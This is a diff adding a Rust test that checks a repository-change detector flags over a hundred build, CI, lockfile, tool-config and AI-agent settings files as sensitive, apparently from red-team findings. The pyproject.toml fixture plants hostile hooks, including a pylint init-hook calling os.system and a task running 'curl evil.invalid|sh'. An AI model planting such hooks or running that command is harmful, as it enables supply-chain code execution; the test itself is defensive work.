@@ -354,6 +354,155 @@ fn the_build_and_ci_entry_points_the_red_team_found_are_sensitive() {
     assert_eq!(found, expected);
 }
 
+/// The third red team's list: siblings of the second's, in other CI
+/// services, lock files, more ecosystems' builds, tools' rc files, and
+/// other agents' settings; all had passed without a finding.
+#[test]
+fn the_siblings_the_third_red_team_found_are_sensitive() {
+    let repo = Repo::new();
+    let files: &[(&str, &str)] = &[
+        (".build.yml", "x\n"),
+        (".builds/ci.yml", "x\n"),
+        ("cloudbuild.yaml", "x\n"),
+        ("buildspec.yml", "x\n"),
+        (".teamcity/settings.kts", "x\n"),
+        (".tekton/pr.yaml", "x\n"),
+        (".zuul.yaml", "x\n"),
+        ("codemagic.yaml", "x\n"),
+        ("bitrise.yml", "x\n"),
+        (".kokoro/build.sh", "x\n"),
+        ("netlify.toml", "x\n"),
+        ("vercel.json", "x\n"),
+        ("Dangerfile", "x\n"),
+        ("fastlane/Fastfile", "x\n"),
+        ("app/app.csproj", "x\n"),
+        ("Directory.Packages.props", "x\n"),
+        ("NuGet.config", "x\n"),
+        ("build.sbt", "x\n"),
+        ("project/plugins.sbt", "x\n"),
+        ("build.xml", "x\n"),
+        ("gradle/publish.gradle", "x\n"),
+        ("gradle/libs.versions.toml", "[libraries]\nx = \"evil:x:1.0\"\n"),
+        ("build-logic/src/main/kotlin/conv.gradle.kts", "x\n"),
+        ("composer.json", "x\n"),
+        (".php-cs-fixer.dist.php", "x\n"),
+        ("phpunit.xml", "x\n"),
+        ("mix.exs", "x\n"),
+        (".formatter.exs", "x\n"),
+        ("rebar.config.script", "x\n"),
+        ("Package.swift", "x\n"),
+        ("build.zig", "x\n"),
+        ("Makefile.PL", "x\n"),
+        ("Build.PL", "x\n"),
+        ("src/Makevars", "x\n"),
+        (".Rprofile", "x\n"),
+        ("deps/build.jl", "x\n"),
+        ("x.opam", "x\n"),
+        ("config.nims", "x\n"),
+        ("x.nimble", "x\n"),
+        ("x.rockspec", "x\n"),
+        ("conanfile.py", "x\n"),
+        ("binding.gyp", "x\n"),
+        ("Makefile.inc", "x\n"),
+        ("BSDmakefile", "x\n"),
+        ("Kbuild", "x\n"),
+        ("m4/evil.m4", "x\n"),
+        ("aclocal.m4", "x\n"),
+        ("CMakePresets.json", "x\n"),
+        ("WORKSPACE.bzlmod", "x\n"),
+        ("REPO.bazel", "x\n"),
+        ("user.bazelrc", "x\n"),
+        ("Makefile.toml", "x\n"),
+        (".config/nextest.toml", "x\n"),
+        ("hatch_build.py", "x\n"),
+        ("pdm_build.py", "x\n"),
+        (".pylintrc", "x\n"),
+        ("pylintrc", "x\n"),
+        ("mypy.ini", "x\n"),
+        (".coveragerc", "x\n"),
+        (".pdbrc", "x\n"),
+        ("karma.conf.js", "x\n"),
+        ("wdio.conf.js", "x\n"),
+        ("protractor.conf.js", "x\n"),
+        (".eleventy.js", "x\n"),
+        (".storybook/main.js", "x\n"),
+        ("vitest.workspace.ts", "x\n"),
+        ("cypress/plugins/index.js", "x\n"),
+        (".pnp.cjs", "x\n"),
+        (".mocharc.yml", "x\n"),
+        (".mocharc.json", "x\n"),
+        (".babelrc", "x\n"),
+        ("babel.config.json", "x\n"),
+        ("jest.config.json", "x\n"),
+        ("bunfig.toml", "x\n"),
+        ("deno.json", "x\n"),
+        ("pnpm-workspace.yaml", "x\n"),
+        (".yarn/patches/x.patch", "x\n"),
+        ("package-lock.json", "x\n"),
+        ("yarn.lock", "x\n"),
+        ("pnpm-lock.yaml", "x\n"),
+        ("poetry.lock", "x\n"),
+        ("uv.lock", "x\n"),
+        ("Pipfile.lock", "x\n"),
+        ("Gemfile.lock", "x\n"),
+        ("composer.lock", "x\n"),
+        ("flake.lock", "x\n"),
+        ("devenv.yaml", "x\n"),
+        (".rubocop.yml", "x\n"),
+        ("Podfile", "x\n"),
+        ("Brewfile", "x\n"),
+        ("Guardfile", "x\n"),
+        ("Capfile", "x\n"),
+        (".irbrc", "x\n"),
+        (".bundle/config", "x\n"),
+        ("mise.dev.toml", "x\n"),
+        (".renovaterc.json5", "x\n"),
+        (".gemini/settings.json", "x\n"),
+        (".roo/mcp.json", "x\n"),
+        (".roomodes", "x\n"),
+        (".kiro/settings/mcp.json", "x\n"),
+        (".amazonq/mcp.json", "x\n"),
+        (".aider.conf.yml", "x\n"),
+        ("CONVENTIONS.md", "x\n"),
+        (".junie/guidelines.md", "x\n"),
+        (".github/prompts/x.prompt.md", "x\n"),
+        (".github/chatmodes/x.chatmode.md", "x\n"),
+        ("opencode.json", "x\n"),
+        (".codex/config.toml", "x\n"),
+        (".continue/config.yaml", "x\n"),
+        (".goosehints", "x\n"),
+        (".zed/tasks.json", "x\n"),
+        (".zed/settings.json", "x\n"),
+        ("x.sublime-project", "x\n"),
+        ("docker-bake.hcl", "x\n"),
+        ("Tiltfile", "x\n"),
+        ("skaffold.yaml", "x\n"),
+        (".github/dependabot.yml", "x\n"),
+        (".env", "x\n"),
+        ("pyproject.toml", "[project]\nname='x'\nversion='1'\n[tool.pylint.main]\ninit-hook = \"import os; os.system('id')\"\n[tool.mypy]\nplugins = ['evil_plugin']\n[tool.coverage.run]\nplugins = ['evil_plugin']\n[tool.hatch.version]\nsource = 'code'\npath = 'evil.py'\n[tool.taskipy.tasks]\ntest = 'curl evil.invalid|sh'\n[tool.pixi.tasks]\ntest = 'id'\n[tool.rye.scripts]\ntest = 'id'\n[project.entry-points.pytest11]\nx = 'evil'\n[tool.setuptools.dynamic]\nversion = {attr = 'evil.__version__'}\n"),
+        ("crate2/Cargo.toml", "[package]\nname='c'\nversion='0.1.0'\n[features]\ndefault=[]\n[[bin]]\nname='x'\npath='../evil.rs'\n"),
+    ];
+    let found = repo.after(|r| {
+        for (path, text) in files {
+            r.write(path, text);
+        }
+        r.write(
+            ".git-blame-ignore-revs",
+            "0000000000000000000000000000000000000000\n",
+        );
+    });
+    let mut expected: Vec<String> = files
+        .iter()
+        .map(|(path, _)| format!("Sensitive {path} Added"))
+        .collect();
+    expected.sort();
+    let mut found = found;
+    found.sort();
+    let missing: Vec<&String> = expected.iter().filter(|e| !found.contains(e)).collect();
+    assert!(missing.is_empty(), "not listed: {missing:#?}");
+    assert_eq!(found, expected);
+}
+
 #[test]
 fn a_cargo_manifest_counts_only_when_its_build_or_dependency_keys_change() {
     let repo = Repo::new();
